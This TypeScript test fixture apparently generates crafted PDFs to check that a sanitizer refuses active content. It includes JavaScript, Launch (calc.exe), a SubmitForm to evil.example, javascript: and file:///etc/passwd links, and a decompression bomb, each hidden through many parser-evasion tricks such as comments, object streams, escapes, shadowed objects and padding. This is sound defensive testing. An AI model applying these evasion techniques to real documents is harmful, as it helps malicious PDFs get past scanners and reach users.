import { baseObjects, objectStream, RawPdf, stream } from "./raw-pdf.ts";

export const ACTIONS = {
  JavaScript: "<</S/JavaScript/JS(app.alert)>>",
  Launch: "<</S/Launch/F(calc.exe)>>",
  SubmitForm: "<</S/SubmitForm/F(https://evil.example/)>>",
  ImportData: "<</S/ImportData/F(a.fdf)>>",
  GoToR: "<</S/GoToR/F(outro.pdf)/D[0/Fit]>>",
  GoToE: "<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>",
  RichMedia: "<</S/RichMediaExecute/TA 1 0 R/CMD<</C(play)>>>>",
  URI: "<</S/URI/URI(javascript:alert)>>",
} as const;

type Position = (action: string) => Uint8Array;

export const ANNOTATION = "/Type/Annot/Subtype/Link/Rect[0 0 99 99]";
export const plain = (parts: Parameters<typeof baseObjects>[0]) =>
  new RawPdf().add(baseObjects(parts)).end().bytes();
const spelled = (action: string, between: string) =>
  action.replace("/S/", `/S${between}/`).replace("/URI(", `/URI${between}(`);
const escaped = (action: string) =>
  action.replace(/\/S\/(\w)/, (_all, first: string) => `/S/#${first.charCodeAt(0).toString(16)}`);
const hidden = { catalog: "/OpenAction 9 0 R" };
export const within = (objects: string) =>
  new RawPdf()
    .add(baseObjects(hidden))
    .add({ 20: objects })
    .endCompressed({ 9: [20, 0] })
    .bytes();

/** Writes an object between `before` and `after`, where no object should begin, such as in a comment. */
function inside(before: string, action: string, after: string): Uint8Array {
  const pdf = new RawPdf().add(baseObjects(hidden));
  pdf.text += before;
  pdf.add({ 9: action });
  pdf.text += after;
  return pdf.end().bytes();
}

function updated(action: string): Uint8Array {
  const pdf = new RawPdf().add(baseObjects()).end();
  const before = pdf.text.lastIndexOf("xref\n0 1");
  pdf.offsets.clear();
  return pdf
    .add({ 1: "<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R>>", 9: action })
    .end(`/Prev ${before}`)
    .bytes();
}

/** An update replaces the action with a harmless one; the file still contains the first action. */
function updatedOut(action: string): Uint8Array {
  const pdf = new RawPdf().add(baseObjects({ ...hidden, objects: { 9: action } })).end();
  const before = pdf.text.lastIndexOf("xref\n0 1");
  pdf.offsets.clear();
  return pdf.add({ 9: "<</S/GoTo/D[3 0 R/Fit]>>" }).end(`/Prev ${before}`).bytes();
}

function hybrid(action: string): Uint8Array {
  const pdf = new RawPdf().add(baseObjects(hidden)).add({ 20: objectStream({ 9: action }) });
  const { text, at } = pdf.xrefStream({ 9: [20, 0] });
  pdf.text += text;
  return pdf.end(`/XRefStm ${at}`).bytes();
}

export const POSITIONS: Record<string, Position> = {
  "the opening of the document": (action) => plain({ ...hidden, objects: { 9: action } }),
  "the catalog itself": (action) => plain({ catalog: `/OpenAction${action}` }),
  "an opening that is a list": (action) => plain({ catalog: `/OpenAction[${action}]` }),
  "an object stream": (action) => within(objectStream({ 9: action })),
  "an object stream without a type": (action) => within(objectStream({ 9: action }, "")),
  "an object stream of another type": (action) =>
    within(objectStream({ 9: action }, "/Type/XObject/Subtype/Image")),
  "an object stream with escaped keys": (action) =>
    within(
      objectStream({ 9: action }, "/Type/Obj#53tm")
        .replace("/First", "/#46irst")
        .replace("/N ", "/#4e "),
    ),
  "an object stream with a comment that closes it": (action) =>
    within(objectStream({ 9: action }, "/Type/ObjStm%>>endobj\n/X(>>endobj)")),
  "an object stream that is not compressed": (action) =>
    within(objectStream({ 9: action }, "/Type/ObjStm", (text) => text)),
  "an object that a later one shadows": (action) =>
    new RawPdf()
      .add(baseObjects({ ...hidden, objects: { 9: action } }))
      .addUnnamed(9, "<</S/GoTo/D[3 0 R/Fit]>>")
      .end()
      .bytes(),
  "an object that shadows an earlier one": (action) =>
    new RawPdf()
      .add(baseObjects(hidden))
      .addUnnamed(9, "<</S/GoTo/D[3 0 R/Fit]>>")
      .add({ 9: action })
      .end()
      .bytes(),
  "an object stream that a later object shadows": (action) =>
    new RawPdf()
      .add(baseObjects(hidden))
      .add({ 20: objectStream({ 9: action }) })
      .addUnnamed(20, "<</Nothing true>>")
      .endCompressed({ 9: [20, 0] })
      .bytes(),
  "a string between objects": (action) => inside("30 0 obj\n(", action, ")\nendobj\n"),
  "a comment": (action) => inside("% ", action, "\n"),
  "a stream's data": (action) =>
    inside("30 0 obj\n<</Length 999>>\nstream\n", action, "\nendstream\nendobj\n"),
  "behind the table's end": (action) => {
    const pdf = new RawPdf().add(baseObjects(hidden)).end();
    return pdf.add({ 9: action }).end().bytes();
  },
  "a comment after /S": (action) => plain({ ...hidden, objects: { 9: spelled(action, "%x\n") } }),
  "blanks of all kinds after /S": (action) =>
    plain({ ...hidden, objects: { 9: spelled(action, "\0\t\f\r\n ") } }),
  "an escaped name": (action) => plain({ ...hidden, objects: { 9: escaped(action) } }),
  "an incremental update": updated,
  "a state before an update": updatedOut,
  "a hybrid table": hybrid,
  "a table that has to be recovered": (action) => {
    const pdf = new RawPdf().add(baseObjects({ ...hidden, objects: { 9: action } })).end();
    pdf.text = pdf.text.replace(/startxref\n\d+/, "startxref\n7");
    return pdf.bytes();
  },
  "an object that nothing names": (action) => plain({ objects: { 9: action } }),
  "an annotation": (action) => plain({ page: `/Annots[<<${ANNOTATION}/A ${action}>>]` }),
  "an annotation's AA": (action) => plain({ page: `/Annots[<<${ANNOTATION}/AA<</E${action}>>>>]` }),
  "a field's AA": (action) =>
    plain({
      catalog: "/AcroForm<</Fields[9 0 R]>>",
      page: "/Annots[9 0 R]",
      objects: {
        9: `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K${action}>>>>`,
      },
    }),
  "a page's AA": (action) => plain({ page: `/AA<</O${action}>>` }),
  "the document's AA": (action) => plain({ catalog: `/AA<</WC${action}>>` }),
  "an outline item": (action) =>
    plain({
      catalog: "/Outlines 9 0 R",
      objects: {
        9: "<</Type/Outlines/First 10 0 R/Last 10 0 R/Count 1>>",
        10: `<</Title(a)/Parent 9 0 R/A${action}>>`,
      },
    }),
  "a chain of Next": (action) =>
    plain({
      catalog: "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 9 0 R>>",
      objects: { 9: "<</S/Named/N/NextPage/Next[10 0 R]>>", 10: action },
    }),
  "a name tree": (action) =>
    plain({
      catalog: "/Names<</Dests 9 0 R>>",
      objects: { 9: "<</Kids[10 0 R]>>", 10: `<</Limits[(a)(a)]/Names[(a)${action}]>>` },
    }),
  "a destination's neighbour in the trailer": (action) =>
    new RawPdf().add(baseObjects()).end(`/Info<</A${action}>>`).bytes(),
};

const SCRIPT = ACTIONS.JavaScript;
const RUNNING = "javascript:alert";
const hex = (text: string, encoding: BufferEncoding) => Buffer.from(text, encoding).toString("hex");
export const link = (uri: string) =>
  plain({ page: `/Annots[<<${ANNOTATION}/A<</S/URI/URI ${uri}>>>>]`, objects: { 9: uri } });
/** A URI in the action that runs when the page opens. The rendering engine finds no URIs there. */
const opened = (uri: string) => plain({ page: `/AA<</O<</S/URI/URI ${uri}>>>>` });

function hiddenForm(before: string, extra: string): Uint8Array {
  const field = "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]>>";
  const objects = { 9: field, 10: stream("", "<xdp/>") };
  const pdf = new RawPdf().add(
    baseObjects({ catalog: "/AcroForm 11 0 R", page: "/Annots[9 0 R]", objects }),
  );
  pdf.text += before;
  pdf.add({ 11: `<</Fields[9 0 R]/XFA 10 0 R${extra}>>` });
  return pdf.end().bytes();
}

/** A description, the kind of action for which the PDF is refused, and the PDF. */
export const SPELLINGS: [string, string, Uint8Array][] = [
  ["a type by reference", "Launch", plain({ objects: { 9: "<</S 10 0 R/F(a)>>", 10: "/Launch" } })],
  [
    "a script by reference",
    "JavaScript",
    plain({ objects: { 9: "<</S/JavaScript/JS 10 0 R>>", 10: stream("", "x") } }),
  ],
  [
    "the tree of scripts",
    "JavaScript",
    plain({ catalog: `/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>` }),
  ],
  ["a rendition", "RichMedia", plain({ objects: { 9: "<</S/Rendition/OP 0>>" } })],
  [
    "a medium on the page",
    "RichMedia",
    plain({ page: "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]" }),
  ],
  [
    "a film on the page",
    "RichMedia",
    plain({ page: "/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]>>]" }),
  ],
  ["a view of a model", "RichMedia", plain({ objects: { 9: "<</S/GoTo3DView/TA 1 0 R/V/F>>" } })],
  ["such a view in a comment", "RichMedia", inside("% ", "<</S/GoTo3DView/TA 1 0 R/V/F>>", "\n")],
  ...["Movie", "Sound"].map((type): [string, string, Uint8Array] => [
    `/${type} in a string between objects`,
    "RichMedia",
    inside("30 0 obj\n(", `<</S%a\n /${type}>>`, ")\nendobj\n"),
  ]),
  [
    "a film on the page in a comment",
    "RichMedia",
    inside("% ", "<</Type/Annot/Subtype /Movie/Rect[0 0 9 9]>>", "\n"),
  ],
  ["a form of its own language", "XFA", plain({ catalog: "/AcroForm<</Fields[]/XFA[]>>" })],
  [
    "such a form within a stream's data",
    "XFA",
    hiddenForm("30 0 obj\n<</Length 999>>\nstream\n", ""),
  ],
  ["such a form in a comment", "XFA", hiddenForm("% ", "")],
  ["such a form that only some readers take", "XFA", hiddenForm("", "/Odd foo")],
  ["an address with escapes", "URI", link("(java\\163cript\\:alert)")],
  ["an address over two lines", "URI", link("(java\\\nscript:alert)")],
  ["an address with blanks before it", "URI", link("( \\t\\njavascript:alert)")],
  ["an address behind many blanks", "URI", opened(`(${" ".repeat(9_000)}${RUNNING})`)],
  ["an address behind many escaped blanks", "URI", opened(`(${"\\t".repeat(9_000)}${RUNNING})`)],
  [
    "an address behind many hexadecimal blanks",
    "URI",
    opened(`<${"20".repeat(9_000)}${hex(RUNNING, "latin1")}>`),
  ],
  ["an address in capitals", "URI", link("(JaVaScRiPt:alert)")],
  ["an address in hexadecimals", "URI", link(`<${hex(RUNNING, "latin1")}>`)],
  [
    "an address in UTF-16",
    "URI",
    link(`<feff${Buffer.from(RUNNING, "utf16le").swap16().toString("hex")}>`),
  ],
  [
    "an address by reference",
    "URI",
    plain({
      page: `/Annots[<<${ANNOTATION}/A<</S/URI/URI 9 0 R>>>>]`,
      objects: { 9: `(${RUNNING})` },
    }),
  ],
  [
    "an address in an object stream",
    "URI",
    within(objectStream({ 9: `<</S/URI/URI(${RUNNING})>>` })),
  ],
  ["a base of addresses", "URI", plain({ catalog: `/URI<</Base(${RUNNING})>>` })],
  ["an address of this machine", "Launch", link("(file:///etc/passwd)")],
];

/** Objects compressed in ways that no producer uses, and that only some readers decode. */
export const UNCLEAR: [string, Uint8Array][] = [
  [
    "a predictor",
    within(objectStream({ 9: SCRIPT }, "/Type/ObjStm/DecodeParms<</Predictor 12/Columns 4>>")),
  ],
  [
    "a predictor by reference",
    within(objectStream({ 9: SCRIPT }, "/Type/ObjStm/DecodeParms 30 0 R")),
  ],
  [
    "another filter",
    within(
      objectStream({ 9: SCRIPT }, "/Type/ObjStm/Filter/ASCIIHexDecode", (text) =>
        Buffer.from(text, "latin1").toString("hex"),
      ),
    ),
  ],
  [
    "two filters",
    within(
      objectStream({ 9: SCRIPT }).replace(
        "/Filter/FlateDecode",
        "/Filter[/ASCII85Decode/FlateDecode]",
      ),
    ),
  ],
  [
    "a filter by reference",
    within(objectStream({ 9: SCRIPT }).replace("/Filter/FlateDecode", "/Filter 30 0 R")),
  ],
  ["brackets that do not pair", within(objectStream({ 9: SCRIPT }, "/Type/ObjStm/X[>>"))],
  [
    "bytes that do not inflate",
    within(objectStream({ 9: SCRIPT }).replace(/stream\nx./, "stream\nxx")),
  ],
  ["a bomb", within(objectStream({ 9: `${SCRIPT}${" ".repeat(20 * 1024 * 1024)}` }))],
];
